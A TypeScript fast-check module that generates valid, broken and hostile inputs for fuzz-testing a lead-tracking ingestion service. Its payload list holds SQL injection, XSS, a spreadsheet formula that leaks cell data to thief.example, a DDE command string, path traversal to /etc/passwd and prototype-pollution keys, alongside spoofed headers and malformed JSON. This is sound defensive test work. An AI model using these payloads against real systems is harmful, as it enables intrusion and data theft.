import fc from 'fast-check';
import {
  MAX_CLICK_ID_CHARS,
  MAX_EVENTS,
  MAX_FIELDS,
  MAX_HINTS,
  MAX_OPTIONS,
  MAX_PATH_PAGES,
  MAX_TEXT_CHARS,
  MAX_TITLE_CHARS,
  MAX_TOUCHES,
  MAX_URL_CHARS,
} from '../../shared/limits.ts';
import type {
  Batch,
  Contact,
  Envelope,
  Form,
  Intent,
  IntentEvent,
  LeadEvent,
  Page,
  Touch,
  WireEvent,
} from '../../shared/wire.ts';

/*
 * What a sender may write, as the contract has it, and what one writes who does not keep to it.
 */

/** JavaScript's last moment, which is the contract's too. */
const LAST_TIME = 8.64e15;

type Text = fc.Arbitrary<string>;

/** What an arbitrary makes. */
export type Made<A> = A extends fc.Arbitrary<infer T> ? T : never;

/** What has broken programs that took a text for something else. */
export const HOSTILE_TEXTS = [
  "'); drop table leads;--",
  "' or 1=1 --",
  '$1 :a @b ?1',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "javascript:alert('1')",
  '=HYPERLINK("https://thief.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\tleading tab',
  'one\r\ntwo: three\n{"level":"error"}',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u202Egnp.exe\u2066\u200b',
  '#{7*7}{{7*7}}<%= 7*7 %>',
  '%00%0a%2e%2e%2f%ff%',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  '0',
  '-1',
  '1e309',
  '',
  ' ',
  '\\',
  '"',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff tail',
  '\ufeff',
  '\uffff',
  '😀👩‍👩‍👧‍👦',
  'é'.repeat(300),
];

/** A text of at most so many characters; most are short. */
function textOf(max: number): Text {
  const cut = (text: string) => text.slice(0, max);
  return fc.oneof(
    { weight: 6, arbitrary: fc.string({ maxLength: 12 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }).map(cut) },
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS).map(cut) },
    { weight: 1, arbitrary: fc.constantFrom(max, max - 1).map((length) => 'x'.repeat(length)) },
  );
}

const text = textOf(MAX_TEXT_CHARS);

/** Few, so that messages meet in one session, one lead, one page. */
export const POOL = Array.from(
  { length: 12 },
  (_, i) => `01k0000000000000000000${`${i}`.padStart(3, '0')}`,
);
const id: Text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...POOL) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.constantFrom(...'0123456789abcdefghijklmnopqrstuv'),
      minLength: 25,
      maxLength: 25,
    }),
  },
);

/** Mostly lately, now and then at odds with every clock. */
function timeAround(now: number): fc.Arbitrary<number> {
  return fc.oneof(
    { weight: 8, arbitrary: fc.integer({ min: now - 3_600_000, max: now }) },
    { weight: 1, arbitrary: fc.constantFrom(0, 1, 2 ** 31, 2 ** 53 - 1 - 8e14, LAST_TIME) },
    { weight: 1, arbitrary: fc.maxSafeNat().map((ms) => ms % LAST_TIME) },
  );
}

const host = fc.constantFrom(
  'www.shop.example',
  'www.google.com',
  'localhost',
  '192.0.2.1',
  '[::1]',
  'xn--bcher-kva.example',
  'user:pass@evil.example:99999',
);
const urlText: Text = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(
        fc.constantFrom('https', 'http', 'javascript', 'android-app', 'data'),
        host,
        textOf(60),
        fc.constantFrom('', '?utm_source=a&gclid=b', '?waybill=test', '#/path?x=1', '?%zz&&=&a'),
      )
      .map(([scheme, name, path, query]) => `${scheme}://${name}/${path}${query}`),
  },
  { weight: 2, arbitrary: textOf(MAX_URL_CHARS) },
  { weight: 1, arbitrary: fc.constant('') },
);

const TAG_NAMES = ['utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content', 'utm_id'];
const TAG_VALUES = ['google', 'cpc', 'email', 'social', 'fb', 'paid', 'direct', '(not set)'];
const CLICK_IDS = [
  'gclid',
  'fbclid',
  'msclkid',
  'ttclid',
  'gbraid',
  'wbraid',
  'li_fat_id',
  'email',
];

/** A record as JSON makes one, in which no name is special. */
function recordOf(
  names: readonly string[],
  values: Text,
  maxKeys: number,
): fc.Arbitrary<Record<string, string>> {
  const name = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...names) },
    { weight: 1, arbitrary: text },
  );
  return fc
    .uniqueArray(fc.tuple(name, values), { maxLength: maxKeys, selector: ([key]) => key })
    .map((entries) => Object.fromEntries(entries.filter(([key]) => key !== '__proto__')));
}

/** With all that must be there, and of the rest what happens to be. */
function shapeOf<T>(
  required: { [K in keyof T as undefined extends T[K] ? never : K]: fc.Arbitrary<T[K]> },
  optional: {
    [K in keyof T as undefined extends T[K] ? K : never]-?: fc.Arbitrary<Exclude<T[K], undefined>>;
  },
): fc.Arbitrary<T> {
  const model = { ...required, ...optional } as Record<string, fc.Arbitrary<unknown>>;
  return fc.record(model, { requiredKeys: Object.keys(required) }) as unknown as fc.Arbitrary<T>;
}

function touchAround(now: number): fc.Arbitrary<Touch> {
  const tag = fc.oneof(fc.constantFrom(...TAG_VALUES), text);
  return shapeOf<Touch>(
    {
      at: timeAround(now),
      landing_page: urlText,
      referrer: urlText,
      tags: recordOf(TAG_NAMES, tag, 5),
      click_ids: recordOf(CLICK_IDS, textOf(MAX_CLICK_ID_CHARS), 3),
    },
    { inherited: text, own: fc.boolean() },
  );
}

function pageAround(now: number): fc.Arbitrary<Page> {
  return shapeOf<Page>(
    { id, at: timeAround(now), url: urlText, title: textOf(MAX_TITLE_CHARS) },
    { engaged_ms: timeAround(now) },
  );
}

const form: fc.Arbitrary<Form> = shapeOf<Form>(
  { id: text, name: text },
  { heading: text, submit_label: text },
);

const contact: fc.Arbitrary<Contact> = shapeOf<Contact>(
  {},
  {
    email: fc.oneof(text, fc.constantFrom('ann@shop.example', 'a@mailinator.com', ' ')),
    name: text,
    phone: fc.oneof(text, fc.constantFrom('+1 212 555 0100', '0043 1 234', '()')),
    company: text,
    message: textOf(4_000),
  },
);

function intentAround(now: number): fc.Arbitrary<Intent> {
  return shapeOf<Intent>(
    {},
    {
      lead_type: fc.oneof(fc.constantFrom('quote_request', 'appointment'), text),
      lead_type_by: text,
      topic: text,
      options: fc.array(fc.record({ name: text, value: text }), { maxLength: MAX_OPTIONS }),
      call_to_action: text,
      started_at: timeAround(now),
      seconds: fc.oneof(
        fc.double({ min: 0, noNaN: true, noDefaultInfinity: true }),
        fc.constantFrom(0, 1.99, 30, Number.MAX_VALUE),
      ),
      tries: fc.maxSafeNat(),
      last_field: text,
    },
  );
}

/** Whether the contract's own rule for the touches' list and the rest is kept: it is by type. */
function touchesAround(now: number): fc.Arbitrary<LeadEvent['touches']> {
  const touch = touchAround(now);
  return shapeOf<LeadEvent['touches']>(
    { first: touch, last: touch, session: touch },
    { last_non_direct: touch, list: fc.array(touch, { maxLength: MAX_TOUCHES, size: 'small' }) },
  );
}

const HINTS = ['wpcf7-form', 'tally.so', 'gform_7', 'hbspt-form', 'w-form', 'my-form'];

/** An event of any kind, as the contract has it. */
function eventAround(now: number): fc.Arbitrary<WireEvent> {
  const at = timeAround(now);
  const page = pageAround(now);
  const intent = intentAround(now);
  const pageView = fc
    .tuple(
      page,
      shapeOf<Pick<WireEvent & { type: 'page_view' }, 'touch' | 'hints'>>(
        {},
        {
          touch: touchAround(now),
          hints: fc.array(fc.oneof(fc.constantFrom(...HINTS), text), { maxLength: MAX_HINTS }),
        },
      ),
    )
    .map(([seen, more]) => ({ type: 'page_view' as const, ...seen, ...more }));
  const done = shapeOf<IntentEvent>(
    {
      type: fc.constant('intent'),
      id,
      at,
      action: fc.constantFrom('start', 'abandon', 'blocked', 'call', 'mail', 'download', 'booking'),
      page: urlText,
      intent,
    },
    { form, lead: id, by: text },
  );
  const lead = shapeOf<LeadEvent>(
    {
      type: fc.constant('lead'),
      id,
      at,
      status: fc.constantFrom('submitted', 'accepted', 'blocked'),
      page: urlText,
      form,
      intent,
      touches: touchesAround(now),
      path: fc.array(page, { maxLength: MAX_PATH_PAGES, size: 'small' }),
      fields: recordOf([...TAG_NAMES, 'gclid', 'waybill_story'], textOf(MAX_URL_CHARS), MAX_FIELDS),
    },
    { by: text, contact, cookies: recordOf(['_ga', '_fbp', 'hubspotutk'], text, 4) },
  );
  const accepted = fc.record({
    type: fc.constant('accepted' as const),
    id,
    at,
    by: text,
    page: urlText,
  });
  return fc.oneof<fc.Arbitrary<WireEvent>[]>(pageView, done, lead, accepted);
}

/** All of a message but its events. */
function envelopeAround(now: number): fc.Arbitrary<Envelope> {
  const at = timeAround(now);
  const by = fc.oneof(fc.constantFrom('default', 'site', 'pending', 'gpc', 'klaro'), text);
  return shapeOf<Envelope>(
    {
      v: fc.constant(1),
      script: text,
      sent_at: at,
      visitor: fc.option(id),
      session: fc.record({
        id,
        started_at: at,
        number: fc.oneof(fc.integer({ min: 1, max: 9 }), fc.constant(Number.MAX_SAFE_INTEGER)),
      }),
      consent: fc.record({
        storage: fc.record({ level: fc.constantFrom('full', 'page', 'none'), by, at }),
        ads: fc.record({ level: fc.constantFrom('granted', 'denied', 'unknown'), by, at }),
      }),
    },
    { revive: fc.constant(true) },
  );
}

/** A message that keeps to the contract, whatever stands in it. */
export function batchAround(now: number): fc.Arbitrary<Batch> {
  const events = fc.oneof(
    { weight: 20, arbitrary: fc.array(eventAround(now), { minLength: 1, maxLength: 3 }) },
    {
      weight: 1,
      arbitrary: eventAround(now).map((event) => Array.from({ length: MAX_EVENTS }, () => event)),
    },
  );
  return fc.tuple(envelopeAround(now), events).map(([envelope, all]) => ({
    ...envelope,
    events: all,
  }));
}

/** JSON that no value of the language is written as; `jsonOf` puts it in the place of these texts. */
const RAW: Readonly<Record<string, string>> = {
  '#nan': 'NaN',
  '#infinity': 'Infinity',
  '#huge': '1e999',
  '#minus huge': '-1e999',
  '#minus zero': '-0',
  '#long number': '9'.repeat(400),
  '#small': '1e-999',
  '#octal': '017',
  '#two to the 53rd': '9007199254740993',
  '#undefined': 'undefined',
  '#deep array': '['.repeat(3_000) + ']'.repeat(3_000),
  '#deep object': `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`,
  '#unclosed': '['.repeat(20_000),
  '#twice': '{"type":"lead","type":"page_view","id":1,"id":2}',
  '#prototype': '{"__proto__":{"v":1,"admin":true},"constructor":{"prototype":{"x":1}}}',
  '#NUL': '"\\u0000"',
  '#half': '"\\ud83d"',
  '#bad escape': '"\\x41"',
  '#line': '"a\nb"',
};

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom(...Object.keys(RAW)) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      ...[0, -1, 0.5, 1e21, 2 ** 53, -(2 ** 63), LAST_TIME, LAST_TIME + 1, 1e308, 5e-324],
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], [null], { a: {} }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(256, 2_001, 30_000, 61_000).map((length) => '\u2028'.repeat(length)),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

type Slot = { holder: Record<string, unknown>; name: string };

function slotsOf(value: unknown): Slot[] {
  if (typeof value !== 'object' || value === null) return [];
  const holder = value as Record<string, unknown>;
  return Object.keys(holder).flatMap((name) => [{ holder, name }, ...slotsOf(holder[name])]);
}

const mutation = fc.record({
  at: fc.nat(),
  how: fc.constantFrom('replace', 'replace', 'replace', 'replace', 'drop', 'wrap', 'add', 'spread'),
  value: hostileValue,
  name: fc.constantFrom(...HOSTILE_TEXTS, 'v', 'type', 'id', 'events', 'length'),
});

function mutate(slots: Slot[], { at, how, value, name }: Made<typeof mutation>): void {
  const slot = slots[at % slots.length];
  if (!slot) return;
  const { holder, name: own } = slot;
  const there = holder[own];
  if (how === 'drop') delete holder[own];
  else if (how === 'wrap') holder[own] = [there];
  // Also one that is called `__proto__`, as JSON may have it.
  else if (how === 'add' && !Array.isArray(holder)) {
    const as = { enumerable: true, configurable: true, writable: true };
    Object.defineProperty(holder, name, { value, ...as });
  } else if (how === 'spread') holder[own] = { ...(there as object) };
  else holder[own] = value;
}

/** The JSON of a value, and in the place of some texts what is hardly JSON. */
function jsonOf(value: unknown): string {
  return JSON.stringify(value).replace(/"(#[^"]+)"(?!:)/g, (all, name) => RAW[name] ?? all);
}

/** The text of a message that keeps to the contract but in a few places. */
export function brokenMessageAround(now: number): Text {
  return fc
    .tuple(batchAround(now), fc.array(mutation, { minLength: 1, maxLength: 4 }))
    .map(([batch, mutations]) => {
      const copy = structuredClone(batch);
      // Each with a value of its own: one that stood in itself would be no JSON.
      for (const one of mutations) mutate(slotsOf(copy), structuredClone(one));
      return jsonOf(copy);
    });
}

/** A body of any kind: random bytes, random JSON, messages whole, broken, cut off and doubled. */
export function bodyAround(now: number): fc.Arbitrary<string | Uint8Array<ArrayBuffer>> {
  const whole = batchAround(now).map((batch) => JSON.stringify(batch));
  const bytes = fc.uint8Array({ maxLength: 300 }).map((array) => Uint8Array.from(array));
  return fc.oneof<fc.WeightedArbitrary<string | Uint8Array<ArrayBuffer>>[]>(
    { weight: 8, arbitrary: whole },
    { weight: 12, arbitrary: brokenMessageAround(now) },
    { weight: 2, arbitrary: bytes },
    { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) },
    { weight: 1, arbitrary: hostileValue.map(jsonOf) },
    {
      weight: 1,
      arbitrary: fc.tuple(whole, fc.nat()).map(([all, at]) => all.slice(0, at % all.length)),
    },
    { weight: 1, arbitrary: whole.map((all) => all + all) },
    { weight: 1, arbitrary: whole.map((all) => `\ufeff \n${all}`) },
    // A character cut in two, which no UTF-8 has.
    {
      weight: 1,
      arbitrary: fc
        .tuple(whole, fc.nat(), fc.integer({ min: 128, max: 255 }))
        .map(([all, at, byte]) => {
          const array = new TextEncoder().encode(all);
          array[at % array.length] = byte;
          return array;
        }),
    },
  );
}

/** A text that may stand in a header, as the platform lets it. */
const headerText: Text = fc
  .oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
    { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc.uint8Array({ maxLength: 40 }).map((a) => String.fromCharCode(...a)),
    },
    { weight: 1, arbitrary: fc.constantFrom(5_000).map((length) => '('.repeat(length)) },
  )
  .map((value) => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, ''));

const HEADERS: Readonly<Record<string, readonly string[]>> = {
  'content-type': [
    'text/plain',
    'text/plain; charset=utf-16',
    'application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'multipart/form-data; boundary=x',
    'multipart/form-data; boundary=',
    'text/html',
    'text/plain;;;',
  ],
  origin: [
    'null',
    'http://localhost',
    'https://www.shop.example:443',
    'https://thief.example',
    'HTTPS://WWW.SHOP.EXAMPLE',
    'chrome-extension://abcdef',
    'https://',
    'file://',
  ],
  'user-agent': [
    '',
    'curl/8',
    'Googlebot/2.1',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac)',
  ],
  cookie: [
    'waybill_visitor=%ff; waybill_visitor=%',
    `waybill_visitor=${POOL[0]}`,
    'waybill_sign_in=x.y; a=b',
    'waybill_sign_in=abc.%2B%2F%3D',
    '=;=;;; ,',
  ],
  authorization: ['Bearer', 'Bearer  ', 'bearer x', 'Basic eDp5', 'Bearer a b'],
  'x-forwarded-for': ['127.0.0.1', '::1, 10.0.0.1', '999.999.999.999', ',,,', 'unknown'],
  'x-forwarded-host': ['www.shop.example', 'localhost:99999', '[::', 'a,b', '%'],
  'x-forwarded-proto': ['https', 'gopher', 'https,http'],
  forwarded: ['for="[::1]";host=x', 'for=_hidden, for=;;'],
  'x-real-ip': ['10.0.0.1', 'x'],
  'cf-connecting-ip': ['2001:db8::1', ''],
  'cf-ipcountry': ['AT', 'XX', 'T1', 'Austria'],
  'x-request-id': ['a'.repeat(300), 'a b', '{"level":"error"}'],
  'sec-purpose': ['prefetch', 'prefetch;prerender'],
  purpose: ['preview'],
  'sec-fetch-site': ['same-origin', 'cross-site', 'none'],
  'if-none-match': ['*', 'W/"', '"abc", W/"def"'],
  'accept-encoding': ['br', 'gzip;q=0', 'br;q=1.0, *;q=0.5', 'zstd'],
  'content-encoding': ['gzip', 'br', 'x'],
  'content-length': ['0', '1', '-1', '99999999999999999999', 'x'],
  'transfer-encoding': ['chunked', 'gzip, chunked'],
  accept: ['text/html', '*/*;q=x', 'application/json'],
  'accept-language': ['de', '*'],
  referer: ['http://localhost/leads', 'javascript:x'],
  host: ['evil.example', 'a:b:c'],
};

/** Headers of which some are right, some hostile and most left out. */
export const headers: fc.Arbitrary<Record<string, string>> = fc
  .uniqueArray(
    fc
      .constantFrom(...Object.keys(HEADERS))
      .chain((name) =>
        fc.tuple(
          fc.constant(name),
          fc.oneof(
            { weight: 3, arbitrary: fc.constantFrom(...(HEADERS[name] ?? [])) },
            { weight: 1, arbitrary: headerText },
          ),
        ),
      ),
    { maxLength: 5, selector: ([name]) => name },
  )
  .map((entries) => Object.fromEntries(entries));

/** What may stand between two slashes of a path, or as the value of a parameter. */
export const pathPart: Text = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...POOL) },
  {
    weight: 3,
    arbitrary: fc
      .constantFrom(...HOSTILE_TEXTS)
      .map((part) => encodeURIComponent(part.replace(/\p{Surrogate}/gu, ''))),
  },
  { weight: 2, arbitrary: fc.webSegment() },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ...['%', '%zz', '%00', '%ff', '%c0%ae%c0%ae', '%ed%a0%80', '..', '.', '%2e%2e', '%2f', '*'],
      ...['debug.js', '.js', 'x.js', '%00.js', '9'.repeat(16), '9999999999999999-a', '-1', '1e2'],
      ...[
        'x'.repeat(3_000),
        '2026-11-21',
        '0000-01-01',
        '9999-12-31',
        'constructor',
        'null',
        ':id',
        '{a}',
        '\\',
        ';a=b',
        'a@b',
      ],
    ),
  },
);

/** What routes are asked for in JSON, by names that they know; some of whom it names are there. */
export const requestText: Text = fc
  .uniqueArray(
    fc.tuple(
      fc.constantFrom(
        ...['lead', 'visitor', 'email', 'phone', 'site', 'name', 'access', 'origins', 'expires_in'],
        'overlap',
      ),
      fc.oneof(
        fc.constantFrom(...POOL, 'ann@shop.example', '+1 212 555 0100', 'admin', '30d'),
        fc.constantFrom(...HOSTILE_TEXTS),
        fc.jsonValue({ maxDepth: 2 }),
      ),
    ),
    { maxLength: 3, selector: ([name]) => name },
  )
  .map((entries) => JSON.stringify(Object.fromEntries(entries)));

/** A query, of names that routes know and others. */
export const query: Text = fc
  .array(
    fc.tuple(
      fc.oneof(
        fc.constantFrom('limit', 'after', 'token', 'from', 'to', 'site', 'day', 'label', 'email'),
        pathPart,
      ),
      pathPart,
    ),
    { maxLength: 3 },
  )
  .map((pairs) => pairs.map(([name, value]) => `${name}=${value}`).join('&'));
